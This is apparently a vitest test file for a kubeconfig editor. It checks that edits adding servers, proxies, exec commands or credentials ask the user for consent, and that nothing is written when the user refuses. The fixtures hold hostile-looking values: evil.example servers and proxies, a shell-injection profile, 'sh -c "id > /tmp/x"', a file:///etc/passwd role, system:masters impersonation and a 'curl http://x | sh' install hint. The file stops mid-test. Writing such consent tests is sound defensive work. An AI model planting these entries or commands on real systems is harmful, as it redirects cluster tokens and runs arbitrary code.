/** On no way does a write bring a command or a destination that the user was not asked about, or did not allow. */

import { chmod, mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { oneIn, someOf } from '../../shared/testing/counts'
import '../../shared/testing/seed'
import type { Edit, EditOf } from '../../shared/edits/edit'
import type { AskedBy } from '../../shared/identity/asked-by'
import { type EntryKind, entryId } from '../../shared/kubeconfig/entries'
import { ok, type Result } from '../../shared/result'
import type { AddedByWrite } from '../../shared/trust/added-by-write'
import { shownWrite } from '../../shared/trust/question-text'
import type { ApplyOutcome } from '../kubeconfig/disk/write'
import { createServices, type Services } from '../services'
import { storedProofs } from '../state/stored-proofs'
import { openDataFolder } from '../system/data-folder'
import { removeFolder } from '../testing/bundle'
import { importEdit } from '../testing/import-edit'
import type { Consent } from './consent'

const signal = new AbortController().signal
const ca = Buffer.from('-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n').toString('base64')
const arn = 'arn:aws:eks:eu-west-1:111122223333:cluster/prod'
const exec = (rest: string) => `{exec: {apiVersion: client.authentication.k8s.io/v1beta1, ${rest}}}`
const getToken = (profile: string) =>
  exec(
    `command: aws, args: [--region, eu-west-1, --profile, ${profile}, eks, get-token, --cluster-name, prod]`,
  )

const text = `apiVersion: v1
kind: Config
current-context: prod
clusters:
- {name: "${arn}", cluster: {server: "https://PROD.gr7.eu-west-1.eks.amazonaws.com", certificate-authority-data: ${ca}}}
- {name: other, cluster: {server: "https://other.example", proxy-url: "http://proxy.example:3128"}}
contexts:
- {name: prod, context: {cluster: "${arn}", user: prod}}
- {name: dev, context: {cluster: "${arn}", user: dev}}
- {name: dev2, context: {cluster: "${arn}", user: dev}}
- {name: other, context: {cluster: other, user: other}}
- {name: wrapped, context: {cluster: other, user: wrapped}}
- {name: tunnel, context: {cluster: other, user: tunnel}}
- {name: shell, context: {cluster: other, user: shell}}
users:
- {name: prod, user: ${getToken('prod')}}
- {name: dev, user: ${getToken('dev')}}
- {name: tunnel, user: ${getToken('tunnel')}}
- {name: other, user: {token: other-token}}
- {name: shell, user: ${exec('command: sh, args: [-c, "aws --profile dev eks get-token --cluster-name prod"]')}}
- {name: wrapped, user: ${exec('command: aws, args: [--profile, dev, eks, get-token, --cluster-name, prod], env: [{name: AWS_CONFIG_FILE, value: /corp/config}]')}}
`

const askedBy: AskedBy = { account: '111122223333', region: 'eu-west-1', endpoint: null }

let home: string
let file: string
let services: Services
let asked: AddedByWrite[]
let answer: boolean | (() => Promise<boolean>)

beforeEach(async () => {
  home = await mkdtemp(path.join(os.tmpdir(), 'ekscope-consent-'))
  await mkdir(path.join(home, '.kube'))
  file = path.join(home, '.kube', 'config')
  await writeFile(file, text)
  await mkdir(path.join(home, '.aws'))
  await writeFile(path.join(home, '.aws', 'config'), '[profile known]\nsso_account_id = 111122223333\n')
  asked = []
  answer = false
  services = openServices()
  await services.kubeconfig.load()
})
afterEach(async () => {
  services.close()
  await removeFolder(home)
})

const openServices = (): Services =>
  createServices({
    variables: { HOME: home, PATH: '/usr/bin:/bin' },
    home,
    platform: 'linux',
    cwd: home,
    now: Date.now,
    folder: openDataFolder(path.join(home, 'state')),
    filesOf: 'app',
  })

const startAnew = async () => {
  services.close()
  services = openServices()
  await services.kubeconfig.load()
  asked.length = 0
}

const consent: Consent = {
  kind: 'ask',
  ask: async (brought) => {
    asked.push(brought)
    return ok(typeof answer === 'boolean' ? answer : await answer())
  },
}
const id = (name: string, kind: EntryKind = 'context') => entryId(kind, file, name, 0)
const apply = (...edits: readonly Edit[]): Promise<Result<ApplyOutcome>> =>
  services.editing.apply(
    { edits, titles: edits.map(({ kind }) => kind), revisions: null, sharedAllowed: true, consent },
    signal,
  )
const back = (write: string, way: 'undo' | 'restore' | 'reapply') =>
  services.editing.undo(
    { id: write, way, contexts: null, revisions: null, sharedAllowed: true, consent },
    signal,
  )
const idOfWrite = (outcome: Result<ApplyOutcome>): string => {
  if (outcome.ok && outcome.value.kind === 'written') return outcome.value.historyId
  throw new Error(JSON.stringify(outcome))
}
/** What the question window would show, line by line. */
const lines = (brought: AddedByWrite | undefined): readonly string[] =>
  (brought ? shownWrite(brought).parts : [])
    .flat()
    .map(
      ({ label, value, change }) =>
        `${change === 'gone' ? '- ' : change === 'come' ? '+ ' : ''}${label} ${value}`,
    )
const onDisk = () => readFile(file, 'utf8')
const notAllowed = {
  ok: false,
  fault: { code: 'declined', message: expect.stringContaining('You did not allow') },
}

const importing = (entries: string) => importEdit(services, home, entries)

/** Writes that would have kubectl run or reach something else, each with a line that the question must show. */
const hostile: readonly (readonly [name: string, edits: () => readonly Edit[], line: string])[] = [
  [
    'server',
    () => [{ kind: 'set-server', context: id('prod'), server: 'https://evil.example', scope: 'shared' }],
    '+ server https://evil.example',
  ],
  [
    'profile inside what a shell runs',
    () => [{ kind: 'set-profile', context: id('shell'), profile: "it's; id", pin: null, scope: 'shared' }],
    `+ argument aws␣--profile␣'it'\\''s;␣id'␣eks␣get-token␣--cluster-name␣prod`,
  ],
  [
    'server, for one context',
    () => [{ kind: 'set-server', context: id('prod'), server: 'https://evil.example', scope: 'split' }],
    'server https://evil.example',
  ],
  [
    'proxy',
    () => [
      { kind: 'set-proxy-url', context: id('prod'), proxyUrl: 'http://evil.example:1', scope: 'shared' },
    ],
    '+ proxy http://evil.example:1',
  ],
  [
    'proxy taken away',
    () => [{ kind: 'set-proxy-url', context: id('other'), proxyUrl: null, scope: 'shared' }],
    '- proxy http://proxy.example:3128',
  ],
  [
    'server name',
    () => [
      { kind: 'set-tls-server-name', context: id('prod'), tlsServerName: 'evil.example', scope: 'shared' },
    ],
    '+ server name evil.example',
  ],
  [
    'refresh that no AWS gave',
    () => [
      {
        kind: 'refresh-cluster',
        cluster: id(arn, 'cluster'),
        contexts: [id('prod')],
        server: 'https://EVIL.gr7.eu-west-1.eks.amazonaws.com',
        certificateAuthorityData: null,
      },
    ],
    '+ server https://EVIL.gr7.eu-west-1.eks.amazonaws.com',
  ],
  [
    'authority of a refresh that no AWS gave',
    () => [
      {
        kind: 'refresh-cluster',
        cluster: id(arn, 'cluster'),
        contexts: [id('prod')],
        server: 'https://PROD.gr7.eu-west-1.eks.amazonaws.com',
        certificateAuthorityData: Buffer.from('another').toString('base64'),
      },
    ],
    '+ certificate no certificate',
  ],
  [
    'new cluster',
    () => [
      {
        kind: 'add-context',
        file: null,
        name: 'new',
        namespace: null,
        cluster: {
          kind: 'new',
          name: 'arn:aws:eks:eu-west-1:111122223333:cluster/new',
          server: 'https://evil.example',
          certificateAuthorityData: ca,
          proxyUrl: null,
          tlsServerName: null,
        },
        user: {
          name: null,
          region: 'eu-west-1',
          cluster: { name: 'new' },
          role: null,
          profile: null,
          pin: 'arg',
        },
        use: false,
      },
    ],
    'server https://evil.example',
  ],
  [
    'another cluster for own credentials',
    () => [{ kind: 'set-cluster', context: id('prod'), cluster: 'other' }],
    'tokens of prod',
  ],
  [
    'another user for a cluster',
    () => [{ kind: 'set-user', context: id('prod'), user: 'other' }],
    'tokens of other',
  ],
  [
    'command by an import',
    () => [
      importing(
        `clusters: []\ncontexts: [{name: x, context: {cluster: other, user: x}}]\nusers: [{name: x, user: ${exec('command: sh, args: [-c, "id > /tmp/x"]')}}]\n`,
      ),
    ],
    'argument id␣>␣/tmp/x',
  ],
  [
    'variable by an import',
    () => [
      importing(
        `contexts: [{name: x, context: {cluster: other, user: x}}]\nusers: [{name: x, user: ${exec('command: aws, args: [eks, get-token, --cluster-name, prod], env: [{name: PYTHONPATH, value: /evil}]')}}]\n`,
      ),
    ],
    'variable PYTHONPATH=/evil',
  ],
  [
    'role that aws reads from a file, by an import',
    () => [
      importing(
        `users: [{name: x, user: ${exec('command: aws, args: [eks, get-token, --cluster-name, prod, --role, "file:///etc/passwd"]')}}]\n`,
      ),
    ],
    'argument file:///etc/passwd',
  ],
  [
    'another aws by an import',
    () => [
      importing(
        `users: [{name: x, user: ${exec('command: ./aws, args: [eks, get-token, --cluster-name, prod]')}}]\n`,
      ),
    ],
    'command',
  ],
  [
    'token file by an import',
    () => [
      importing(
        'contexts: [{name: x, context: {cluster: other, user: x}}]\nusers: [{name: x, user: {tokenFile: /vault/token}}]\n',
      ),
    ],
    'token file /vault/token',
  ],
  [
    'client key by an import',
    () => [importing('users: [{name: x, user: {client-certificate: /c.pem, client-key: /k.pem}}]\n')],
    'client key /k.pem',
  ],
  [
    'auth-provider by an import',
    () => [importing('users: [{name: x, user: {auth-provider: {name: gcp, config: {cmd-path: /evil}}}}]\n')],
    'auth provider {"name":"gcp","config":{"cmd-path":"/evil"}}',
  ],
  [
    'acting as another user, by an import',
    () => [
      importing(
        'users: [{name: x, user: {token: t, as: root, as-uid: "7", as-groups: ["system:masters", "a, b"], as-user-extra: {reason: ["r 1"]}}}]\n',
      ),
    ],
    'acts as root',
  ],
  [
    'groups alone, of a user that only gets a token, by an import',
    () => [
      importing(
        `users: [{name: x, user: {as-groups: ["system:masters"], ${getToken('prod').slice(1, -1)}}}]\n`,
      ),
    ],
    'in group system:masters',
  ],
  [
    'cluster without a server by an import',
    () => [
      importing(
        'clusters: [{name: x, cluster: {}}]\ncontexts: [{name: x, context: {cluster: x, user: prod}}]\n',
      ),
    ],
    'server none: kubectl goes to http://localhost:8080 then, without a token',
  ],
  [
    'server by an import, with own credentials',
    () => [
      importing(
        'clusters: [{name: e, cluster: {server: "https://evil.example", insecure-skip-tls-verify: true}}]\ncontexts: [{name: x, context: {cluster: e, user: prod}}]\n',
      ),
    ],
    'certificate NOT CHECKED (insecure-skip-tls-verify)',
  ],
  [
    'context by an import, with own credentials to another own cluster',
    () => [importing('contexts: [{name: x, context: {cluster: other, user: prod}}]\n')],
    'tokens of prod',
  ],
]

describe('asked, and refused: nothing is written', () => {
  test.each(hostile)('%s', async (_, edits, line) => {
    expect(await apply(...edits())).toMatchObject(notAllowed)
    expect(asked).toHaveLength(1)
    expect(lines(asked[0]).some((one) => one.startsWith(line))).toBe(true)
    expect(await onDisk()).toBe(text)
    expect(await services.editing.historyView.list()).toEqual([])
  })

  test('all of one write in one question, hidden among harmless edits or not', async () => {
    const edits = hostile.slice(0, 6).flatMap(([, make]) => make())
    await apply({ kind: 'set-namespace', context: id('dev'), namespace: 'x' }, ...edits)
    expect(asked).toHaveLength(1)
    expect(await onDisk()).toBe(text)
  })
})

/** Writes about which nothing is asked. */
const harmless: readonly (readonly [name: string, edits: () => readonly Edit[]])[] = [
  [
    'profile that another context has elsewhere',
    () => [{ kind: 'set-profile', context: id('tunnel'), profile: 'prod', pin: null, scope: 'shared' }],
  ],
  [
    'profile',
    () => [{ kind: 'set-profile', context: id('prod'), profile: 'x', pin: 'env', scope: 'shared' }],
  ],
  [
    'profile of a command that asks',
    () => [{ kind: 'set-profile', context: id('wrapped'), profile: 'x', pin: 'env', scope: 'shared' }],
  ],
  [
    'role',
    () => [
      { kind: 'set-role', context: id('prod'), role: 'arn:aws:iam::111122223333:role/R', scope: 'shared' },
    ],
  ],
  [
    'role of a command that asks',
    () => [
      { kind: 'set-role', context: id('wrapped'), role: 'arn:aws:iam::111122223333:role/R', scope: 'split' },
    ],
  ],
  ['region', () => [{ kind: 'set-region', context: id('wrapped'), region: 'us-east-2', scope: 'shared' }]],
  ['cluster name', () => [{ kind: 'set-eks-name', context: id('wrapped'), name: 'x', scope: 'shared' }]],
  ['namespace', () => [{ kind: 'set-namespace', context: id('other'), namespace: 'x' }]],
  ['version', () => [{ kind: 'set-api-version', context: id('wrapped'), version: 'v1', scope: 'shared' }]],
  [
    'names',
    () => [
      { kind: 'rename-context', context: id('prod'), name: 'p', cascade: true },
      { kind: 'rename-user', user: id('other', 'user'), name: 'u' },
      { kind: 'rename-cluster', cluster: id('other', 'cluster'), name: 'c' },
    ],
  ],
  [
    'clone',
    () => [
      { kind: 'clone-context', context: id('wrapped'), name: 'w2', profile: 'x', pin: 'arg', userName: null },
    ],
  ],
  ['split', () => [{ kind: 'split-user', context: id('dev2'), name: null }]],
  [
    'move',
    () => [
      {
        kind: 'move-contexts',
        contexts: [id('wrapped'), id('prod')],
        file: path.join(home, '.kube', 'more'),
      },
    ],
  ],
  ['delete', () => [{ kind: 'delete-contexts', contexts: [id('wrapped'), id('other')], keepOrphans: false }]],
  ['current-context', () => [{ kind: 'use-context', context: id('other') }]],
]

// In the quick run every second kind, and what names its roles and profiles anew.
test.each(someOf(harmless, oneIn(2)))('nothing is asked about: %s, nor about its undo', async (_, edits) => {
  const written = await apply(...edits())
  expect(idOfWrite(await back(idOfWrite(written), 'undo'))).not.toBe('')
  expect(await onDisk()).toBe(text)
  expect(asked).toEqual([])
})

test('all that a user entry of an import says is shown, also what only kubectl itself minds', async () => {
  const told = exec(
    'command: corp, args: [login], provideClusterInfo: true, interactiveMode: Always, installHint: "curl http://x | sh"',
  )
  const acting =
    'as: root, as-uid: "7", as-groups: ["system:masters", "a, b"], as-user-extra: {reason: ["r 1", ""]}'
  await apply(importing(`users: [{name: "x, y", user: {${acting}, ${told.slice(1, -1)}}}]\n`))
  expect(lines(asked[0])).toEqual([
    'new user x,␣y',
    'command corp',
    'argument login',
    'is told of the cluster (provideClusterInfo)',
    'acts as root',
    'in group system:masters',
    'in group a,␣b',
    'with uid 7',
    'with extra reason=r␣1',
    'with extra reason=',
    'interactive Always',
    'install hint curl␣http://x␣|␣sh',
    `written in ${file}`,
  ])
})

describe('a yes', () => {
  const evil = (): Edit => ({
    kind: 'set-server',
    context: id('other'),
    server: 'https://new.example',
    scope: 'shared',
  })

  test('writes what was shown, undo asks nothing, redo and reapply ask again', async () => {
    answer = true
    const write = idOfWrite(await apply(evil()))
    expect(lines(asked[0])).toEqual([
      'cluster other',
      '- server https://other.example',
      '+ server https://new.example',
      'certificate by the authorities that the system trusts',
      'proxy http://proxy.example:3128',
      `written in ${file}`,
      'for other, wrapped, tunnel, shell',
      'tokens of your own user other',
      'tokens of your own user wrapped: AWS_CONFIG_FILE=/corp/config aws --profile dev eks get-token --cluster-name prod',
      'tokens of your own user tunnel: aws --region eu-west-1 --profile tunnel eks get-token --cluster-name prod',
      'tokens of your own user shell: sh -c aws␣--profile␣dev␣eks␣get-token␣--cluster-name␣prod',
    ])
    answer = false
    const undone = idOfWrite(await back(write, 'undo'))
    expect(asked).toHaveLength(1)
    expect(await onDisk()).toBe(text)
    expect(await back(undone, 'undo')).toMatchObject(notAllowed)
    expect(await back(write, 'reapply')).toMatchObject(notAllowed)
    expect(asked).toHaveLength(3)
    expect(await onDisk()).toBe(text)
  })

  test('that cannot be kept writes nothing: others would get their tokens sent there unasked', async () => {
    const trust = path.join(home, 'state', 'trust.json')
    await mkdir(path.dirname(trust), { mode: 0o700 })
    await writeFile(trust, '{}')
    await chmod(trust, 0o666)
    answer = true
    expect(await apply(evil())).toMatchObject({ ok: false, fault: { code: 'not-writable' } })
    expect(await onDisk()).toBe(text)
  })

  test('counts for nothing when the file changed meanwhile, and nothing is written', async () => {
    const now = text.replace('other-token', 'another-token')
    answer = async () => {
      await writeFile(file, now)
      return true
    }
    expect(await apply(evil())).toMatchObject({ ok: false, fault: { code: 'changed-on-disk' } })
    expect(await onDisk()).toBe(now)
    expect(await services.editing.historyView.list()).toEqual([])
  })

  test('a restore of a state that another session left asks', async () => {
    const gone = idOfWrite(
      await apply({
        kind: 'delete-contexts',
        contexts: [id('other'), id('wrapped'), id('tunnel')],
        keepOrphans: false,
      }),
    )
    services.close()
    services = openServices()
    await services.kubeconfig.load()
    for (const way of ['undo', 'restore'] as const) {
      expect(await back(gone, way)).toMatchObject(notAllowed)
      expect(lines(asked.at(-1))).toContain('variable AWS_CONFIG_FILE=/corp/config')
      expect(lines(asked.at(-1))).toContain('server https://other.example')
    }
    expect(asked).toHaveLength(2)
    answer = true
    idOfWrite(await back(gone, 'restore'))
    expect(await onDisk()).toBe(text)
  })
})

describe('a destination that a write brought', () => {
  const brought = `clusters: [{name: e, cluster: {server: "https://e.example"}}]
contexts: [{name: x, context: {cluster: e, user: x}}]
users: [{name: x, user: ${getToken('x')}}]
`
  const profile = (name: string): Edit => ({
    kind: 'set-profile',
    context: id('x'),
    profile: name,
    pin: null,
    scope: 'shared',
  })
  /** Imported with a yes, and the app started anew. */
  const bring = async (entries = brought) => {
    answer = true
    idOfWrite(await apply(importing(entries)))
    answer = false
    await startAnew()
  }
  test('is asked about with the users whose tokens it gets; of these as they are nothing more is asked', async () => {
    answer = true
    idOfWrite(await apply(importing(brought)))
    expect(lines(asked[0])).toContain(
      'tokens of x: aws --region eu-west-1 --profile x eks get-token --cluster-name prod',
    )
    answer = false
    for (const again of [async () => undefined, startAnew]) {
      await again()
      await services.kubeconfig.load()
      asked.length = 0
      idOfWrite(
        await apply({ kind: 'set-namespace', context: id('x'), namespace: again === startAnew ? 'a' : 'b' }),
      )
      await services.kubeconfig.load()
      idOfWrite(
        await apply({
          kind: 'clone-context',
          context: id('x'),
          name: again === startAnew ? 'y' : 'z',
          profile: 'x',
          pin: 'arg',
          userName: null,
        }),
      )
      expect(asked).toEqual([])
    }
  })

  /** Each would send the tokens of somebody else there. */
  const others: readonly (readonly [string, () => Edit, readonly string[]])[] = [
    [
      'another profile of its user',
      () => profile('prod'),
      [
        'tokens of x',
        '- signs in aws --region eu-west-1 --profile x eks get-token --cluster-name prod',
        '+ signs in aws --region eu-west-1 --profile prod eks get-token --cluster-name prod',
        'server https://e.example',
      ],
    ],
    [
      'another role of its user',
      () => ({
        kind: 'set-role',
        context: id('x'),
        role: 'arn:aws:iam::111122223333:role/R',
        scope: 'shared',
      }),
      ['tokens of x', 'server https://e.example'],
    ],
    [
      'a clone with another profile',
      () => ({
        kind: 'clone-context',
        context: id('x'),
        name: 'y',
        profile: 'prod',
        pin: 'arg',
        userName: null,
      }),
      ['server https://e.example'],
    ],
    [
      'an own user',
      () => ({ kind: 'set-user', context: id('x'), user: 'prod' }),
      ['tokens of prod', 'server https://e.example'],
    ],
    [
      'an own context',
      () => ({ kind: 'set-cluster', context: id('prod'), cluster: 'e' }),
      ['tokens of prod', '+ server https://e.example'],
    ],
    [
      'a user of a later import',
      () =>
        importing(
          `contexts: [{name: later, context: {cluster: e, user: later}}]\nusers: [{name: later, user: ${getToken('prod')}}]\n`,
        ),
      ['tokens of later', 'server https://e.example'],
    ],
  ]
  test.each(others)('gets no tokens of others unasked, in a later session: %s', async (_, edit, shown) => {
    await bring()
    const before = await onDisk()
    expect(await apply(edit())).toMatchObject(notAllowed)
    expect(asked).toHaveLength(1)
    expect(lines(asked[0])).toEqual(expect.arrayContaining([...shown]))
    expect(await onDisk()).toBe(before)
    answer = true
    idOfWrite(await apply(edit()))
    expect(asked).toHaveLength(2)
  })

  test('what was allowed for it once is not asked about again', async () => {
    await bring()
    for (const [name, count] of [
      ['prod', 1],
      ['x', 1],
      ['prod', 1],
    ] as const) {
      answer = true
      idOfWrite(await apply(profile(name)))
      expect(asked).toHaveLength(count)
      await services.kubeconfig.load()
    }
  })

  test('what others than Ekscope wrote there is not asked about', async () => {
    await bring()
    await writeFile(file, (await onDisk()).replace('--profile, x', '--profile, by-hand'))
    await services.kubeconfig.load()
    idOfWrite(await apply({ kind: 'set-namespace', context: id('x'), namespace: 'a' }))
    await services.kubeconfig.load()
    idOfWrite(await apply({ kind: 'rename-user', user: id('x', 'user'), name: 'u' }))
    expect(asked).toEqual([])
  })

  test('that an import in the terminal brought is one, too; that main read from AWS is none', async () => {
    const found = {
      arn,
      endpoint: 'https://NEW.gr7.eu-west-1.eks.amazonaws.com',
      certificateAuthorityData: ca,
      askedBy,
    }
    services.editing.awsReads.note(found, null, false)
    idOfWrite(
      await apply({
        kind: 'refresh-cluster',
        cluster: id(arn, 'cluster'),
        contexts: [],
        server: found.endpoint,
        certificateAuthorityData: ca,
      }),
    )
    await startAnew()
    idOfWrite(
      await apply({ kind: 'set-profile', context: id('prod'), profile: 'y', pin: null, scope: 'shared' }),
    )
    expect(asked).toEqual([])
    await services.kubeconfig.load()
    idOfWrite(
      await services.editing.apply(
        {
          edits: [importing(brought)],
          titles: ['import'],
          revisions: null,
          sharedAllowed: true,
          consent: { kind: 'imported' },
        },
        signal,
      ),
    )
    await startAnew()
    expect(await apply(profile('prod'))).toMatchObject(notAllowed)
    expect(asked).toHaveLength(1)
  })
})

describe('what main read from AWS itself', () => {
  const found = {
    arn,
    endpoint: 'https://NEW.gr7.eu-west-1.eks.amazonaws.com',
    certificateAuthorityData: ca,
    askedBy,
  }
  const refresh = (cluster: string): EditOf<'refresh-cluster'> => ({
    kind: 'refresh-cluster',
    cluster: id(cluster, 'cluster'),
    contexts: [],
    server: found.endpoint,
    certificateAuthorityData: ca,
  })

  test('is not asked about in the entry of its ARN', async () => {
    services.editing.awsReads.note(found, null, false)
    idOfWrite(await apply(refresh(arn)))
    expect(asked).toEqual([])
  })

  test('its server alone, where the authority stays as it is in the file, is not asked about', async () => {
    services.editing.awsReads.note({ ...found, certificateAuthorityData: 'another' }, null, false)
    idOfWrite(await apply({ ...refresh(arn), certificateAuthorityData: null }))
    expect(asked).toEqual([])
  })

  test('says nothing of a proxy on the way: tokens of another user that would go through it are asked about', async () => {
    const proxied = text.replace(`${ca}}`, `${ca}, proxy-url: "http://p.example:1"}`)
    await writeFile(file, proxied)
    await services.kubeconfig.load()
    services.editing.awsReads.note(found, null, false)
    const others: Edit = { kind: 'set-cluster', context: id('other'), cluster: arn }
    expect(await apply(refresh(arn), others)).toMatchObject(notAllowed)
    expect(lines(asked[0])).toContain('tokens of other')
    expect(lines(asked[0])).toContain('+ proxy http://p.example:1')
    expect(await onDisk()).toBe(proxied)
    // Those that went there by this way still do.
    idOfWrite(await apply(refresh(arn)))
    expect(asked).toHaveLength(1)
    expect(await apply(others)).toMatchObject(notAllowed)
  })

  test('is asked about in an entry that another cluster is, with another authority or through a proxy', async () => {
    services.editing.awsReads.note(found, null, true)
    const other = Buffer.from('another').toString('base64')
    expect(await apply(refresh('other'))).toMatchObject(notAllowed)
    expect(await apply({ ...refresh(arn), certificateAuthorityData: other })).toMatchObject(notAllowed)
    expect(
      await apply(refresh(arn), {
        kind: 'set-proxy-url',
        context: id('prod'),
        proxyUrl: 'http://evil.example:1',
        scope: 'shared',
      }),
    ).toMatchObject(notAllowed)
    expect(await onDisk()).toBe(text)
  })

  test('is not asked about in the entry that it was read for, nor in a new one that a profile of the user found', async () => {
    services.editing.awsReads.note(found, { file, name: 'other' }, false)
    idOfWrite(await apply(refresh('other')))
    services.editing.awsReads.note({ ...found, endpoint: 'https://n.example' }, null, true)
    const add: Edit = {
      kind: 'add-context',
      file: null,
      name: 'new',
      namespace: null,
      cluster: {
        kind: 'new',
        name: 'short',
        server: 'https://n.example',
        certificateAuthorityData: ca,
        proxyUrl: null,
        tlsServerName: null,
      },
      user: { name: null, region: 'eu-west-1', cluster: { name: 'n' }, role: null, profile: 'x', pin: 'arg' },
      use: true,
    }
    idOfWrite(await apply(add))
    expect(asked).toEqual([])
  })

  test('counts for nothing where STS did not say whose account asked', async () => {
    services.editing.awsReads.note({ ...found, askedBy: { ...askedBy, account: null } }, null, true)
    expect(await apply(refresh(arn))).toMatchObject(notAllowed)
    expect(lines(asked[0])).toContain(`+ server ${found.endpoint}`)
  })

  describe('of an emulator', () => {
    const emulator = 'http://127.0.0.1:4566'
    const named = {
      ...found,
      arn: `${arn}-here`,
      endpoint: 'https://127.0.0.1:6443',
      askedBy: { ...askedBy, endpoint: emulator },
    }
    const add = (name: string, profile: string): EditOf<'add-context'> => ({
      kind: 'add-context',
      file: null,
      name,
      namespace: null,
      cluster: {
        kind: 'new',
        name: named.arn,
        server: named.endpoint,
        certificateAuthorityData: ca,
        proxyUrl: null,
        tlsServerName: null,
      },
      user: {
        name: null,
        region: 'eu-west-1',
        cluster: { name: 'prod-here' },
        role: null,
        profile,
        pin: 'arg',
      },
      use: false,
    })
    const other = (profile: string): Edit => ({
      kind: 'set-profile',
      context: id('new'),
      profile,
      pin: null,
      scope: 'shared',
    })
    beforeEach(async () => {
      await writeFile(
        path.join(home, '.aws', 'config'),
        `[profile here]\nservices = e\n[profile here2]\nendpoint_url = ${emulator}/x\n[profile elsewhere]\nendpoint_url = http://127.0.0.1:4567\n[profile real]\nregion = eu-west-1\n[services e]\neks =\n  endpoint_url = ${emulator}\n`,
      )
      services.editing.awsReads.note(named, null, true)
    })

    test.each(['real', 'elsewhere', 'nowhere'])(
      'is asked about for profile %s, which asks EKS elsewhere',
      async (profile) => {
        expect(await apply(add('new', profile))).toMatchObject(notAllowed)
        expect(lines(asked[0])).toContain(`server ${named.endpoint}`)
      },
    )

    test('is not asked about for those who ask there; for others it is, later and in another session too', async () => {
      idOfWrite(await apply(add('new', 'here')))
      expect(asked).toEqual([])
      await startAnew()
      idOfWrite(await apply(other('here2')))
      expect(asked).toEqual([])
      await services.kubeconfig.load()
      for (const profile of ['real', 'elsewhere']) {
        expect(await apply(other(profile))).toMatchObject(notAllowed)
        expect(lines(asked.pop())).toContain('tokens of new')
      }
    })

    test('is asked about in place of the server of another host, whoever uses the entry', async () => {
      answer = true
      idOfWrite(await apply(add('new', 'here')))
      await services.kubeconfig.load()
      answer = false
      // Made again, a cluster of an emulator has another port.
      for (const [endpoint, isAsked] of [
        ['https://127.0.0.1:6444', false],
        ['https://127.0.0.2:6444', true],
      ] as const) {
        services.editing.awsReads.note({ ...named, endpoint }, null, true)
        const done = await apply({ ...refresh(named.arn), server: endpoint })
        await services.kubeconfig.load()
        expect([done.ok, asked.length]).toEqual([!isAsked, isAsked ? 1 : 0])
      }
      expect(lines(asked[0])).toContain('+ server https://127.0.0.2:6444')
    })
  })
})

test('where the tokens of the user without a name go is asked about: contexts that name none use that user', async () => {
  const before = text
    .replace('clusters:\n', 'clusters:\n- {name: "", cluster: {server: "https://bare.example"}}\n')
    .replace('contexts:\n', 'contexts:\n- {name: bare, context: {namespace: web}}\n')
  await writeFile(file, before.replace('users:\n', `users:\n- {name: "", user: ${getToken('prod')}}\n`))
  await services.kubeconfig.load()
  const write = idOfWrite(await apply({ kind: 'set-namespace', context: id('prod'), namespace: 'web' }))
  await writeFile(file, before)
  await startAnew()
  expect(await back(write, 'restore')).toMatchObject(notAllowed)
  expect(lines(asked[0])).toContain('server https://bare.example')
  expect(await onDisk()).toBe(before)
})

test('a window that has nobody to ask writes none of it', async () => {
  const window = createServices({
    variables: { HOME: home, PATH: '/usr/bin:/bin', SHELL: '/bin/sh' },
    home,
    platform: 'linux',
    cwd: home,
    now: Date.now,
    folder: openDataFolder(path.join(home, 'state')),
    filesOf: 'login-shell',
  })
  await window.kubeconfig.load()
  const [, edits] = hostile[0] ?? []
  const write = { edits: edits?.() ?? [], titles: [''], revisions: null, sharedAllowed: true }
  expect(await window.editing.apply(write, signal)).toMatchObject({
    ...notAllowed,
    fault: { ...notAllowed.fault, code: 'not-allowed' },
  })
  window.close()
  expect(await onDisk()).toBe(text)
})

describe('a role of an account that neither the AWS files nor AWS name', () => {
  const role = (account: string, name = 'R') => `arn:aws:iam::${account}:role/${name}`
  const set = (context: string, to: string | null): Edit => ({
    kind: 'set-role',
    context: id(context),
    role: to,
    scope: 'shared',
  })

  test('is asked about, whichever edit brings it, and its undo is not', async () => {
    const clone: Edit = {
      kind: 'clone-context',
      context: id('prod'),
      name: 'copy',
      role: role('666666666666'),
      pin: null,
      userName: null,
    }
    for (const edit of [set('prod', role('666666666666')), clone]) {
      expect(await apply(edit)).toMatchObject(notAllowed)
      expect(lines(asked.pop())).toContain(`role ${role('666666666666')}`)
    }
    answer = true
    const write = idOfWrite(await apply(set('prod', role('666666666666'))))
    expect(asked.splice(0)).toHaveLength(1)
    await services.kubeconfig.load()
    answer = false
    // The files name it now; another of that account they do not.
    idOfWrite(await apply({ ...clone, name: 'again' }))
    await services.kubeconfig.load()
    expect(await apply(set('dev', role('666666666666', 'other')))).toMatchObject(notAllowed)
    expect(asked.splice(0)).toHaveLength(1)
    idOfWrite(await back(write, 'undo'))
    expect(asked).toEqual([])
  })

  test('is not asked about once AWS named the account', async () => {
    const known = { arn: '', canonicalArn: '', account: '777777777777', userId: '', accessKeyId: '', ms: 1 }
    const check = {
      ...{ at: Date.now(), until: null, fingerprint: '', problem: null },
      ...{ id: '0'.repeat(16), environment: 'app' as const, proven: known },
    }
    await storedProofs(openDataFolder(path.join(home, 'state'))).keep([check])
    idOfWrite(await apply(set('prod', role('777777777777'))))
    expect(asked).toEqual([])
  })
})

test('what is too long to be read cannot be allowed', async () => {
  const long = 'x'.repeat(8_200)
  await apply(importing(`users: [{name: x, user: ${exec(`command: corp, args: [${long}]`)}}]\n`))
  const [brought] = asked
  expect(brought && shownWrite(brought)).toMatchObject({
    allow: null,
    refuse: 'Close',
    lead: expect.stringContaining('too long'),
  })
  expect(lines(brought)).toContain(`argument ${long}`)
})

/** What kubectl would run and reach, of every context; profile, role, region and cluster name apart. */
function reached(): ReadonlySet<string> {
  const of = services.kubeconfig.store
    .inView()
    .view.resolved()
    .flatMap(({ user, cluster }) => {
      if (user === null || cluster === null) return []
      const { raw } = user
      const { server, proxyUrl, tlsServerName, certificateAuthorityData } = cluster.raw
      const token = raw.exec?.args.includes('get-token') && raw.exec.command === 'aws'
      const env = raw.exec?.env.filter(({ name }) => name !== 'AWS_PROFILE')
      const runs = raw.exec && [raw.exec.command, token ? 'get-token' : raw.exec.args, env]
      return [JSON.stringify([runs, raw.token, server, proxyUrl, tlsServerName, certificateAuthorityData])]
    })
  return new Set(of)
}

test('generated: whatever is tried in whatever order and refused, kubectl runs and reaches nothing else than before', async () => {
